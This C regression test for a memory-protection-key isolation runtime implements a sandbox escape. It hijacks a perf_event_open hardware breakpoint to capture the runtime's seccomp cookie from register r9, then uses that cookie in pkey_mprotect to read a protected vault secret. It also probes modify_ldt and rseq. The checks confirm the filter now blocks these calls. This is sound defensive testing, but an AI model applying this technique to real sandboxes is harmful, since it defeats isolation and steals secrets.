// Under mpk the runtime's system calls carry a cookie in r9 that the
// seccomp filter (rt/seccomp.c) takes for the runtime's word; the runtime
// blocks every signal while r9 holds it. perf_event_open does not care:
// domain `evil` puts a hardware execute breakpoint on the runtime's own
// syscall instruction (dipc_runtime_syscall_site() - 2) sampling r9, makes
// the runtime issue a call (a PROT_EXEC mmap the filter traps), reads the
// cookie from the ring buffer and calls pkey_mprotect(vault's page, key
// 0) itself. Stopped: the filter denies perf_event_open (and bpf), EPERM.
// `others`: the filter's other additions, modify_ldt (selectors that set
// fs or gs past arch_prctl's check) and rseq (the kernel jumps to its
// abort address from whatever code runs in its critical section), tried
// with harmless arguments. Control: under `none` the read just works, and
// modify_ldt and rseq answer for themselves.
// (Found by the attack round of issue #15's session, 2026-11-26.)
// REQUIRES: pku
// RUN: %dipc-clang -fdipc -O2 %s -o %t
// RUN: %dipc-bin-dir/dipc-run --backend=mpk %t 2>&1 | FileCheck %s --check-prefix=MPK
// RUN: %dipc-bin-dir/dipc-run --backend=none %t 2>&1 | FileCheck %s --check-prefix=STOLEN
// RUN: %dipc-bin-dir/dipc-run --backend=mpk %t others 2>&1 | FileCheck %s --check-prefix=MPK-OTHERS
// RUN: %dipc-bin-dir/dipc-run --backend=none %t others 2>&1 | FileCheck %s --check-prefix=NONE-OTHERS
// MPK: perf_event_open: -1
// MPK: nothing stolen
// STOLEN: stole 'vault-secret-42'
// MPK-OTHERS: modify_ldt: -1 (Operation not permitted)
// MPK-OTHERS: rseq: -1 (Operation not permitted)
// NONE-OTHERS: modify_ldt: 0 (Success)
// NONE-OTHERS: rseq: -1 (Invalid argument)
#define _GNU_SOURCE
#include "Inputs/vault.h"

#include <errno.h>
#include <asm/perf_regs.h>
#include <linux/hw_breakpoint.h>
#include <linux/perf_event.h>
#include <unistd.h>

#define RB_PAGES 8

long attack(const char *mode, void *aux, const volatile char *secret, int key,
            char *loot) {
  (void)aux, (void)key;
  if (strcmp(mode, "others") == 0) {
    char ldt[16];
    errno = 0;
    long r = syscall(SYS_modify_ldt, 0, ldt, sizeof ldt); /* read */
    printf("modify_ldt: %ld (%s)\n", r, strerror(r < 0 ? errno : 0));
    errno = 0;
    r = syscall(SYS_rseq, NULL, 0, 0, 0); /* no area: EINVAL */
    printf("rseq: %ld (%s)\n", r, strerror(r < 0 ? errno : 0));
    return 0;
  }
  char *site = (char *)dipc_runtime_syscall_site(); // after `syscall`
  struct perf_event_attr a;
  memset(&a, 0, sizeof a);
  a.type = PERF_TYPE_BREAKPOINT;
  a.size = sizeof a;
  a.bp_type = HW_BREAKPOINT_X;
  a.bp_addr = (uintptr_t)(site - 2); // the syscall instruction
  a.bp_len = sizeof(long);
  a.sample_period = 1;
  a.sample_type = PERF_SAMPLE_IP | PERF_SAMPLE_REGS_USER;
  a.sample_regs_user = (1ULL << PERF_REG_X86_AX) | (1ULL << PERF_REG_X86_R9);
  a.exclude_kernel = 1;
  a.exclude_hv = 1;
  a.wakeup_events = 1;
  int fd = (int)syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
  printf("perf_event_open: %d\n", fd);
  if (fd < 0)
    return -1;
  char *rb = mmap(NULL, (1 + RB_PAGES) * 4096, PROT_READ | PROT_WRITE,
                  MAP_SHARED, fd, 0);
  if (rb == MAP_FAILED)
    return -2;
  // Make the runtime do a system call of its own on this thread.
  void *x = mmap(NULL, 4096, PROT_READ | PROT_EXEC,
                 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  printf("exec mmap (served by the runtime): %p\n", x);
  struct perf_event_mmap_page *mp = (void *)rb;
  uint64_t head = __atomic_load_n(&mp->data_head, __ATOMIC_ACQUIRE);
  char *data = rb + 4096;
  uint64_t cookie = 0, off = 0;
  int samples = 0;
  while (off < head) {
    struct perf_event_header *h =
        (void *)(data + (off % (RB_PAGES * 4096)));
    if (h->type == PERF_RECORD_SAMPLE) {
      uint64_t *p = (uint64_t *)(h + 1); // ip, abi, ax, r9
      samples++;
      if (p[1] && p[3] && !(p[3] & 4095) && p[2] != SYS_mmap + 0x1000000)
        cookie = p[3];
      if (samples <= 3)
        printf("sample: ip=%#lx nr(rax)=%lu r9=%#lx\n", (unsigned long)p[0],
               (unsigned long)p[2], (unsigned long)p[3]);
    }
    off += h->size;
  }
  printf("%d samples, cookie %s\n", samples, cookie ? "found" : "not found");
  fflush(stdout);
  if (cookie) { // (none: no filter, no cookie; the read just works)
    long r = runtime_pkey_mprotect(site, secret, cookie);
    printf("pkey_mprotect(vault page, key 0) with the cookie: %ld\n", r);
    fflush(stdout);
  }
  take(secret, loot);
  return 0;
}

int main(int argc, char **argv) {
  return run_attack(argc > 1 ? argv[1] : "perf breakpoint", NULL);
}
